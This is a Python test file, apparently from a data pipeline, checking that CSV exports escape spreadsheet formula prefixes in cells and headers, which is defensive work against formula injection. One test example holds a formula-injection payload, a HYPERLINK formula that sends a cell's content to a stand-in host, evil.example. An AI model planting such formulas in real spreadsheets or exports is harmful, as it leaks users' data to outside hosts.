"""Cells that a spreadsheet would take for formulas are marked as text, and no others."""

import csv
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from tg_pipeline.query.quoting import literal, quoted
from tg_pipeline.query.session import Session
from tg_pipeline.query.spreadsheet_cells import as_cells

TEXTS = st.text(
    st.one_of(
        st.sampled_from("=+-@\t\r\n;,'\"a1"),
        st.characters(exclude_characters="\0", exclude_categories=["Cs"]),
    ),
    max_size=20,
)

Cells = Callable[[str], list[list[str]]]


@pytest.fixture
def cells(session: Session, tmp_path: Path) -> Cells:
    def copied(query: str) -> list[list[str]]:
        (statement,) = session.statements(query)
        target = tmp_path / "cells.csv"
        session.copy(statement, str(target), "FORMAT csv, HEADER", cells=as_cells)
        with target.open(encoding="utf-8", newline="") as file:
            return list(csv.reader(file))

    return copied


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@example('=HYPERLINK("http://evil.example/?"&A1)')
@example("-2+3")
@given(TEXTS)
def test_no_cell_begins_like_a_formula_and_each_can_be_read_back(cells: Cells, text: str) -> None:
    (_, (cell, _)) = cells(f"SELECT {literal(text)} AS text, 1 AS one")

    assert not cell.startswith(tuple("=+-@\t\r"))
    assert text in {cell, cell.removeprefix("'")}


@pytest.mark.parametrize(
    "kind", ["tinyint", "bigint", "hugeint", "float", "double", "decimal(9, 2)", "bignum"]
)
def test_numbers_are_not_changed(cells: Cells, kind: str) -> None:
    (_, (cell,)) = cells(f"SELECT CAST(-7 AS {kind}) AS number")

    assert float(cell) == -7


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("CAST('=x' AS blob)", "'=x"),
        ("CAST('=x' AS ENUM ('=x'))", "'=x"),
        ("union_value(text := '+x')", "'+x"),
        ("INTERVAL '-1 hour'", "'-01:00:00"),
        ("['=x']", "['=x']"),
        ("[['-x']]", "[[-x]]"),
        ("TIMESTAMPTZ '2026-10-07 12:00:00.5-03'", "2026-10-07 12:00:00.5-03"),
        ("true", "true"),
    ],
)
def test_values_of_other_types_are_texts(cells: Cells, value: str, cell: str) -> None:
    assert cells(f"SELECT {value} AS value") == [["value"], [cell]]


@pytest.mark.parametrize("name", ["=x", "+x", "-x", "@x"])
def test_headers_are_marked_as_well(cells: Cells, name: str) -> None:
    assert cells(f"SELECT 1 AS {quoted(name)}, 2 AS {quoted(name)}") == [
        [f"'{name}", f"'{name}_1"],
        ["1", "2"],
    ]


def test_the_columns_of_a_pivot_and_the_order_of_rows_are_kept(cells: Cells) -> None:
    pivot = (
        "PIVOT (SELECT range % 3 AS n, if(range % 2 = 0, '=a', 'b') AS letter FROM range(12)) "
        "ON letter USING count(*) ORDER BY n DESC"
    )

    assert cells(pivot) == [["n", "'=a", "b"], ["2", "2", "2"], ["1", "2", "2"], ["0", "2", "2"]]


def test_the_time_zone_can_be_a_cell(cells: Cells) -> None:
    assert cells("SELECT $timezone AS zone -- and no more") == [["zone"], ["America/Sao_Paulo"]]
